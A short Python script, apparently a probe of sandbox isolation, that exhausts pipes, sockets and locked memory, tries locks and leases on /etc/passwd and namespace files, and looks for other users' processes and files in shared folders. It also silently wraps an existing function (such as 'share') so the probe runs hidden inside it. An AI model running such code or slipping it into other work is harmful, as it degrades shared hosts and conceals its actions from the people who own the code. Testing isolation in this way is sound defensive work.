import ctypes
import fcntl
import os
import socket


def deed():
    print("TRIED", flush=True)
    kept = []
    try:
        while len(kept) < 4_000:
            ends = os.pipe()
            kept += ends
            fcntl.fcntl(ends[1], 1031, 1 << 20)  # F_SETPIPE_SZ: pages are counted by user
            os.set_blocking(ends[1], False)
            os.write(ends[1], b"x" * 65536)
    except OSError:
        pass
    for each in kept[: len(kept) // 2]:
        os.close(each)
    pairs = []
    try:
        while len(pairs) < 2_000:
            pairs += socket.socketpair()
    except OSError:
        pass
    libc = ctypes.CDLL(None)
    libc.mlockall(3)
    del kept, pairs
    for path in ("/proc/self/ns/time", "/proc/self/ns/net", "/proc/self/ns/ipc", "/usr/bin/python3", "/etc/passwd", "/channel"):
        try:
            opened = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        for what, action in {
            "a whole lock": lambda: fcntl.flock(opened, fcntl.LOCK_EX | fcntl.LOCK_NB),
            "a lease": lambda: fcntl.fcntl(opened, fcntl.F_SETLEASE, fcntl.F_WRLCK),
        }.items():
            try:
                action()
                print("REACHED", what, path, flush=True)
            except OSError:
                pass
    for name in os.listdir("/proc"):
        if name.isdigit() and os.stat(f"/proc/{name}").st_uid not in (os.getuid(), 0):
            print("REACHED a process of another user", name, flush=True)
    # A server runs below /tmp, and keeps things of its own there.
    for folder in ("/dev/shm", "/dev/mqueue", "/channel", *(() if __file__.startswith("/tmp") else ("/tmp",))):
        for name in os.listdir(folder):
            print("REACHED something of another box", folder, name, flush=True)


def wrap(names):
    own = [name for name, value in names.items() if callable(value) and getattr(value, "__module__", "") == names["__name__"]]
    for name in ["share"] if "share" in own else own[:1]:
        honest = names[name]
        names[name] = lambda *given: (deed(), honest(*given))[1]
